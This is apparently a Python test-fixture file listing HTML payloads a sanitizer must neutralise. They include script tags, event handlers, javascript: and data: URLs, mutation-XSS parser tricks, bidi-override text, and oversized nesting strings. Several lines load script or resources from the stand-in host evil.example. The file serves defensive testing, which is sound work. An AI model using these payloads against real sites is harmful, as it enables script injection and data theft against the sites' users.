"""Ways in which markup is known to bring a script along, or to do other harm; each would set ``window.ran``."""

from __future__ import annotations

#: Plain scripts, handlers and addresses.
SCRIPTS = (
    "<script>window.ran=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<script\x00>window.ran=1</script>",
    "<script/x>window.ran=1</script >",
    "<img src=x onerror=window.ran=1>",
    "<img src=x onerror='window.ran=1'//",
    '<img """><script>window.ran=1</script>">',
    "<img/src=x/onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='data:text/html,<script>window.ran=1</script>'></object>",
    "<embed src=javascript:window.ran=1>",
    "<a href=javascript:window.ran=1>press</a>",
    "<a href='java\tscript:window.ran=1'>press</a>",
    "<a href=' &#106;avascript&colon;window.ran=1'>press</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4='>press</a>",
    "<a href='vbscript:x' target=_blank>press</a>",
    "<form action=https://evil.example><button formaction=javascript:window.ran=1>press</button></form>",
    "<isindex action=javascript:window.ran=1 type=image>",
    "<portal src=https://evil.example>",
)

#: Styles, other places, and requests without a script.
STYLES = (
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>over all</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<img srcset='https://evil.example/x 1x'>",
    "<img src=https://evil.example/x>",
    "<video poster=https://evil.example/x></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>",
    "<div id=qms-feedback name=body>x</div>",
    "<script type=application/json id=qms-feedback>{}</script>",
)

#: Markup that parses one way, is written out, and parses another way the next time.
MUTATING = (
    "<svg><p><style><img src=x onerror=window.ran=1></style></p></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
    '<math><mi//xlink:href="data:x,<script>window.ran=1</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=window.ran=1>"></textarea>',
    '<title><a title="</title><img src=x onerror=window.ran=1>"></title>',
    '<xmp><img title="</xmp><img src=x onerror=window.ran=1>"></xmp>',
    "<template><img src=x onerror=window.ran=1></template>",
    "<select><option><img src=x onerror=window.ran=1></select>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:window.ran=1><text x=20 y=20>press</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1>#x'/></svg>",
    "<svg><foreignObject><iframe onload=window.ran=1></foreignObject></svg>",
    "<math href=javascript:window.ran=1>press</math>",
    "<table><caption><svg><desc><style></desc><img src=x onerror=window.ran=1>",
    "<!--><img src=x onerror=window.ran=1>-->",
    "<!--a--!><img src=x onerror=window.ran=1>-->",
    "<![CDATA[<img src=x onerror=window.ran=1>]]>",
    "<?xml <img src=x onerror=window.ran=1> ?>",
    "</script></style></pre></main><img src=x onerror=window.ran=1>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "<td colspan=99999999 rowspan=-1 onclick=window.ran=1>x</td>",
    "<b><p><table><b></p><td></b><i></table></i>" * 20,
)

#: Texts that hide or turn round what stands there.
HIDING = (
    "a \u202egnp.exe\u202c b",
    "\u2066\u2067if admin\u2069",
    "zero\u2060width\ufeff",
    "&#x202e;turned",
    "bell \x07 and \x1b[31mred\x1b[0m and \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "null \x00 and half \ud800 of a pair, \ufffe",
    "[press](javascript:window.ran=1) ![x](https://evil.example/x) <https://evil.example>",
    "[a]: javascript:window.ran=1\n\n[a]",
    "```html\n<script>window.ran=1</script>\n```",
    "# <script>window.ran=1</script>",
    "$\\href{javascript:window.ran=1}{press}$",
)

ALL = (*SCRIPTS, *STYLES, *MUTATING, *HIDING)

#: Large or deep; a parser may need the square of their length, or run out of stack.
HUGE = tuple(
    piece * 100_000
    for piece in (
        "<div>",
        "<td>",
        "<b>",
        "<table><tr><td>",
        "<svg>",
        "</p>",
        "<!--",
        "&amp",
        "[",
        "> ",
        "*a ",
        "(",
        "\t",
    )
)
